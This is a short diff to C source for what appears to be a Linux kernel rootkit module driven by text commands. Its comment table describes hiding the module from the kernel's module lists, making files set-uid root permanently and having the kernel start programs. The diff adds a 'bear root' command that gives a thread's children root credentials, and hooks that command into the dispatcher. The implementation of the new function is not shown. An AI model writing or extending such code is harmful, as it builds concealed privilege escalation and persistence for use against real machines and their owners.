@@ -15,6 +15,7 @@
  *   list WHERE                    be called for another reason, see be_listed()
  *   hide list, hide kset          take this module off the kernel's list of modules, or off the set of their objects
  *   below                         have the first user namespace lie below this process's own
+ *   bear root                     have children of this thread get root's users before they run
  *   own PATH                      give a file to root, set-uid as it is, as a copy-up of an overlay does; for good
  *   start PATH WORD... env WORD...
  *                                 have the kernel start a program by itself with these arguments and variables; wait
@@ -122,6 +123,8 @@ static struct effect *perform(const char *command)
 		return leave_out_checks();
 	if (!strcmp(command, "below"))
 		return put_below_us();
+	if (!strcmp(command, "bear root"))
+		return bear_root();
 	if (!strcmp(command, "notify"))
 		return be_notified();
 	if (!strncmp(command, "list ", 5))
